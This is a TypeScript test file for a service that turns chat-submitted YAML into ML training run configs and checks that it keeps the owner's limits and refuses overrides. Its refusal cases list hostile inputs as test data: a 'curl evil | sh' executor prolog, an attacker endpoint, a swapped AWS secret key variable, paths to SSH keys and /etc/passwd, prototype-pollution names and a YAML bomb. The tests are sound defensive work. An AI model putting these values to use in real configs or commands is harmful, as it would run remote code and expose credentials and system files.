import { describe, expect, it } from "vitest";
import { runConfigSchema } from "#src/config/run-config.ts";
import { ConfigError } from "#src/errors.ts";
import { serverConfigSchema } from "#src/server/server-config.ts";
import { parseChatRun } from "#src/service/chat-run/parse-chat-run.ts";
import { runFromChat } from "#src/service/chat-run/run-from-chat.ts";

const task = { kind: "generate", path: "/data/math.jsonl", verifier: { kind: "exact" } };
const server = serverConfigSchema.parse({
  catalogue: {
    models: { gemma: { path: "google/gemma-2-2b" } },
    datasets: { gsm8k: { path: "/data/gsm8k.jsonl", format: "prompt_completion" } },
    tasks: { math: task },
    runs: { nightly: { path: "/runs/nightly.yaml" } },
  },
  executor: { kind: "slurm", partition: "gpu", lanes: 4 },
  llm: { default: { model: "gpt-4o" } },
  caps: { trials: 50, device_hours: 12, usd_per_device_hour: 3 },
  approval: { over: { device_hours: 1 }, two_approvers_over: { device_hours: 4 }, requester_may_approve_alone: false },
});
const harmless = "name: mine\nmodels: [gemma]\ndatasets: [gsm8k]\ntasks: [math]\nactions:\n  sft: { max_steps: [80, 20] }\n";
const template = runConfigSchema.parse({
  name: "nightly",
  models: { base: { path: "/models/base" } },
  datasets: {},
  tasks: { math: task },
  actions: { merge_linear: {} },
  budget: { trials: 20 },
  approval: { over: { device_hours: 2 } },
});

function ask(text: string, from = template) {
  const { ask: wish, source } = parseChatRun(text, "mine.yaml");
  return runFromChat({ ask: wish, server, template: wish.run === undefined ? null : from, source });
}

function refusal(text: string): string {
  try {
    ask(text);
  } catch (error) {
    if (error instanceof ConfigError) return error.message;
    throw error;
  }
  return "it was taken";
}

describe("a run that is asked for by chat", () => {
  it("gets the catalogue's objects, the owner's machines and models, and the owner's limits where it names none", () => {
    const config = ask(harmless);
    expect(config).toMatchObject({
      name: "mine",
      models: { gemma: { path: "google/gemma-2-2b" } },
      datasets: { gsm8k: { path: "/data/gsm8k.jsonl" } },
      executor: { kind: "slurm", partition: "gpu", lanes: 4 },
      llm: { default: { model: "gpt-4o" } },
      budget: { trials: 50, device_hours: 12, usd_per_device_hour: 3 },
      approval: {
        over: { device_hours: 1 },
        two_approvers_over: { device_hours: 4 },
        requester_may_approve_alone: false,
        expires_hours: 12,
      },
    });
  });

  it("may be stricter than the owner", () => {
    const config = ask(`${harmless}budget: { trials: 5, device_hours: 2 }\napproval: { over: { device_hours: 0.1 }, expires_hours: 2 }\n`);
    expect(config.budget).toMatchObject({ trials: 5, device_hours: 2 });
    expect(config.approval).toMatchObject({ over: { device_hours: 0.1 }, expires_hours: 2 });
  });

  it("starts a run of the catalogue as the owner wrote it, under the tighter of both limits", () => {
    const config = ask("run: nightly\nname: tonight\nbudget: { trials: 9 }\n");
    expect(config).toMatchObject({ name: "tonight", models: { base: { path: "/models/base" } }, budget: { trials: 9, device_hours: 12 } });
    expect(config.approval.over.device_hours).toBe(1);
    expect(config.executor.kind).toBe("local");
    expect(refusal("run: nightly\nbudget: { trials: 30 }\n")).toMatch(/mine\.yaml:2:\d+.*30 is above the owner's limit of 20/);
    expect(refusal("run: nightly\nmodels: [gemma]\n")).toContain("cannot be said beside run: nightly");
  });

  it("takes weights and floors of the catalogue's tasks", () => {
    expect(ask(harmless.replace("tasks: [math]", "tasks: { math: { weight: 2, floor: base } }")).tasks).toMatchObject({
      math: { path: "/data/math.jsonl", weight: 2, floor: "base" },
    });
  });

  it.each([
    ["another executor", `${harmless}executor: { kind: local, lanes: 64 }\n`, /mine\.yaml:7:\d+ .*executor.*cannot come by chat/],
    ["a prolog", `${harmless}executor: { kind: slurm, prolog: "curl evil | sh" }\n`, /executor.*cannot come by chat/],
    ["an endpoint", `${harmless}llm: { default: { model: x, base_url: "http://evil" } }\n`, /llm.*cannot come by chat/],
    [
      "another key's variable",
      `${harmless}llm: { default: { model: x, api_key_env: AWS_SECRET_ACCESS_KEY } }\n`,
      /llm.*cannot come by chat/,
    ],
    ["a model's path", harmless.replace("[gemma]", "{ mine: { path: /etc } }"), /models\.mine.*cannot come by chat/],
    ["a hub id", harmless.replace("[gemma]", "{ mine: { path: evil/model } }"), /models\.mine.*cannot come by chat/],
    ["a dataset's path", harmless.replace("[gsm8k]", "{ mine: { path: /root/.ssh/id_rsa } }"), /datasets\.mine.*cannot come by chat/],
    ["a task's path", harmless.replace("[math]", "{ math: { path: /etc/passwd } }"), /tasks\.math.*cannot come by chat/],
    [
      "a catalogue entry's other path",
      harmless.replace("[math]", "{ math: { weight: 1, path: /etc/passwd } }"),
      /tasks\.math.*cannot come by chat/,
    ],
    ["a name that is a path", harmless.replace("[gemma]", '["../../etc"]'), /no model "\.\.\/\.\.\/etc"/],
    ["a name of JavaScript's own", harmless.replace("[gemma]", '["__proto__"]'), /no model "__proto__"/],
    ["more trials", `${harmless}budget: { trials: 500 }\n`, /500 is above the owner's limit of 50/],
    ["more device-hours", `${harmless}budget: { device_hours: 13 }\n`, /13 is above the owner's limit of 12/],
    ["endless device-hours", `${harmless}budget: { device_hours: .inf }\n`, /device_hours/],
    ["a price of nothing", `${harmless}budget: { usd_per_device_hour: 0 }\n`, /usd_per_device_hour.*cannot come by chat/],
    ["a higher threshold", `${harmless}approval: { over: { device_hours: 100 } }\n`, /100 is above the owner's limit of 1/],
    [
      "a higher second threshold",
      `${harmless}approval: { two_approvers_over: { device_hours: 100 } }\n`,
      /100 is above the owner's limit of 4/,
    ],
    [
      "approving one's own run",
      `${harmless}approval: { requester_may_approve_alone: true }\n`,
      /requester_may_approve_alone.*cannot come by chat/,
    ],
    ["a longer life of questions", `${harmless}approval: { expires_hours: 1000 }\n`, /1000 is above the owner's limit of 12/],
    ["roots of one's own", `${harmless}roots: [/]\n`, /roots — unknown key/],
    ["the catalogue itself", `${harmless}catalogue: { models: { mine: { path: /etc } } }\n`, /catalogue — unknown key/],
    [
      "a YAML bomb",
      `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nmodels: [*c,*c,*c,*c,*c,*c,*c,*c]\n`,
      /.+/,
    ],
    ["a book", `${harmless}goal: ${"x".repeat(70_000)}\n`, /longer than 64 KiB/],
  ])("is refused %s, and told why", (_, text, why) => {
    const message = refusal(text);
    expect(message).toMatch(why);
    expect(message).not.toBe("it was taken");
  });
});
